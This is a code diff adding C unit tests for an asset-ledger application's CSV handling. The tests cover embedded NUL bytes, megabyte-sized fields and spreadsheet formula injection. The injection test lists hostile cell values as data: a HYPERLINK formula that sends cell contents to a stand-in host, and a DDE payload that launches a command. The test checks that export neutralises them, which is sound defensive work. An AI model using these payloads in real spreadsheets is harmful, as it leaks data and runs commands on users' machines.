@@ -384,6 +384,183 @@ test_malformed (void)
   g_assert_cmpuint (count, ==, 1);
 }
 
+/* A NUL inside UTF-16 or UTF-8 text: refused with its line, never cut
+ * short there while the import says it worked. */
+static void
+test_nul (void)
+{
+  const char *rows = "資産名,保管場所\r\n図面,金庫\r\n試作品,開発室\r\n";
+  g_autofree char *utf16 = NULL;
+  g_autoptr(GByteArray) bytes = g_byte_array_new ();
+  g_autoptr(MamoriAssetImport) import = NULL;
+  g_autoptr(GError) error = NULL;
+  static const guint8 bom[] = { 0xFF, 0xFE };
+  static const guint8 nul16[] = { 0x00, 0x00 };
+  gsize utf16_length;
+  const char *second_row;
+  gsize offset;
+
+  utf16 = g_convert (rows, -1, "UTF-16LE", "UTF-8", NULL, &utf16_length, &error);
+  g_assert_no_error (error);
+  /* The NUL goes just before the last row, which would be lost. */
+  second_row = strstr (rows, "試作品");
+  offset = (gsize) g_utf8_pointer_to_offset (rows, second_row) * 2;
+  g_byte_array_append (bytes, bom, 2);
+  g_byte_array_append (bytes, (const guint8 *) utf16, offset);
+  g_byte_array_append (bytes, nul16, 2);
+  g_byte_array_append (bytes, (const guint8 *) utf16 + offset, utf16_length - offset);
+
+  import = mamori_asset_import_new (bytes->data, bytes->len, &error);
+  g_assert_null (import);
+  g_assert_error (error, MAMORI_CSV_ERROR, MAMORI_CSV_ERROR_NUL);
+  g_assert_nonnull (strstr (error->message, "Line 3"));
+  g_clear_error (&error);
+
+  /* The same in UTF-8. */
+  {
+    g_autoptr(GByteArray) utf8 = g_byte_array_new ();
+
+    g_byte_array_append (utf8, (const guint8 *) rows, (guint) (second_row - rows));
+    g_byte_array_append (utf8, nul16, 1);
+    g_byte_array_append (utf8, (const guint8 *) second_row, (guint) strlen (second_row));
+    import = mamori_asset_import_new (utf8->data, utf8->len, &error);
+    g_assert_null (import);
+    g_assert_error (error, MAMORI_CSV_ERROR, MAMORI_CSV_ERROR_NUL);
+    g_clear_error (&error);
+  }
+
+  /* A NUL at the very end hides nothing: every row is there. */
+  g_byte_array_set_size (bytes, 0);
+  g_byte_array_append (bytes, bom, 2);
+  g_byte_array_append (bytes, (const guint8 *) utf16, utf16_length);
+  g_byte_array_append (bytes, nul16, 2);
+  import = mamori_asset_import_new (bytes->data, bytes->len, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (mamori_asset_import_get_n_rows (import), ==, 2);
+}
+
+/* A cell of megabytes (a wrong file, or a quote never closed) is refused
+ * at once with its line, instead of filling the workspace and the packs. */
+static void
+test_huge_field (void)
+{
+  g_autoptr(GString) text = g_string_new ("資産名,備考\n図面,短い\n巨大,");
+  g_autoptr(MamoriAssetImport) import = NULL;
+  g_autoptr(GError) error = NULL;
+  gint64 start;
+
+  for (guint i = 0; i < 10 * 1024 * 1024 / 16; i++)
+    g_string_append (text, "0123456789abcdef");
+  g_string_append (text, "\n");
+
+  start = g_get_monotonic_time ();
+  import = mamori_asset_import_new ((const guint8 *) text->str, text->len, &error);
+  g_assert_null (import);
+  g_assert_error (error, MAMORI_CSV_ERROR, MAMORI_CSV_ERROR_TOO_LARGE);
+  g_assert_nonnull (strstr (error->message, "Line 3"));
+  g_clear_error (&error);
+  /* Not a timing goal, a sign that nothing reads the cell again and again. */
+  g_assert_cmpint (g_get_monotonic_time () - start, <, 5 * G_USEC_PER_SEC);
+
+  /* A quote opened and never closed, over megabytes: the line it opened. */
+  g_string_assign (text, "資産名,備考\n図面,\"");
+  for (guint i = 0; i < 1024 * 1024 / 16; i++)
+    g_string_append (text, "0123456789\nabcd,");
+  import = mamori_asset_import_new ((const guint8 *) text->str, text->len, &error);
+  g_assert_null (import);
+  g_assert_error (error, MAMORI_CSV_ERROR, MAMORI_CSV_ERROR_TOO_LARGE);
+  g_assert_nonnull (strstr (error->message, "Line 2"));
+  g_clear_error (&error);
+
+  /* A long note, but within reason, is kept whole. */
+  g_string_assign (text, "資産名,備考\n図面,");
+  for (guint i = 0; i < 10000; i++)
+    g_string_append (text, "長");
+  import = mamori_asset_import_new ((const guint8 *) text->str, text->len, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (mamori_asset_import_get_n_rows (import), ==, 1);
+}
+
+/* Cells a spreadsheet would run (=HYPERLINK, DDE, @, +, -, tab, CR) are
+ * exported as text, with an apostrophe first; our own export imports back
+ * exactly as it was, apostrophes typed by the user included. */
+static void
+test_formula_injection (void)
+{
+  static const char * const hostile[] = {
+    "=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tTab first",
+    "'=already quoted by the user",
+    "''+two apostrophes",
+    "'plain apostrophe",
+    "普通の名前",
+  };
+  g_autoptr(MamoriStore) store = new_workspace ("injection.mamori");
+  g_autoptr(MamoriStore) again = new_workspace ("injection-again.mamori");
+  g_autoptr(MamoriAssetImport) import = NULL;
+  g_autoptr(MamoriCsvDocument) document = NULL;
+  g_autoptr(GBytes) bytes = NULL;
+  g_autoptr(GError) error = NULL;
+  guint count;
+
+  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
+    {
+      g_autoptr(MamoriAsset) asset = mamori_asset_new ();
+      g_autofree char *notes = g_strdup_printf ("%s notes", hostile[i]);
+
+      g_object_set (asset, "name", hostile[i], "notes", notes, "storage", "=1+1", NULL);
+      g_assert_cmpint (mamori_store_add_asset (store, asset, &error), >, 0);
+      g_assert_no_error (error);
+    }
+
+  bytes = mamori_asset_export (store, NULL, MAMORI_CSV_ENCODING_UTF8_BOM, &error);
+  g_assert_no_error (error);
+
+  /* In the file, no cell starts a formula. */
+  document = mamori_csv_parse (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), &error);
+  g_assert_no_error (error);
+  for (guint r = 1; r < document->records->len; r++)
+    {
+      MamoriCsvRecord *record = g_ptr_array_index (document->records, r);
+
+      for (guint f = 0; f < record->n_fields; f++)
+        g_assert_null (strchr ("=+-@\t\r", record->fields[f][0] != '\0' ? record->fields[f][0] : 'x'));
+    }
+  g_assert_nonnull (g_strstr_len (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), "'=HYPERLINK("));
+
+  /* Back in: every cell as it was typed. */
+  import = mamori_asset_import_new (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), &error);
+  g_assert_no_error (error);
+  g_assert_true (mamori_asset_import_run (import, again, &count, NULL, &error));
+  g_assert_no_error (error);
+  g_assert_cmpuint (count, ==, G_N_ELEMENTS (hostile));
+  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
+    {
+      /* A leading tab is trimmed by the import, as any whitespace is. */
+      const char *expected = hostile[i][0] == '\t' ? hostile[i] + 1 : hostile[i];
+      g_autoptr(MamoriAsset) asset = asset_named (again, expected);
+      g_autofree char *notes = g_strdup_printf ("%s notes", expected);
+
+      g_assert_cmpstr (mamori_asset_get_notes (asset), ==, notes);
+      g_assert_cmpstr (mamori_asset_get_storage (asset), ==, "=1+1");
+    }
+
+  /* Someone else's ledger is imported as written. */
+  g_clear_pointer (&import, mamori_asset_import_free);
+  import = import_text ("名称,保存場所\n'=x,'-y\n");
+  g_assert_true (mamori_asset_import_run (import, again, &count, NULL, &error));
+  g_clear_object (&again);
+  again = new_workspace ("injection-again.mamori");
+  {
+    g_autoptr(MamoriAsset) asset = asset_named (again, "'=x");
+
+    g_assert_cmpstr (mamori_asset_get_storage (asset), ==, "'-y");
+  }
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -396,6 +573,9 @@ main (int   argc,
   g_test_add_func ("/csv/other-ledger", test_other_ledger);
   g_test_add_func ("/csv/other-encodings", test_other_encodings);
   g_test_add_func ("/csv/malformed", test_malformed);
+  g_test_add_func ("/csv/nul", test_nul);
+  g_test_add_func ("/csv/huge-field", test_huge_field);
+  g_test_add_func ("/csv/formula-injection", test_formula_injection);
 
   return g_test_run ();
 }
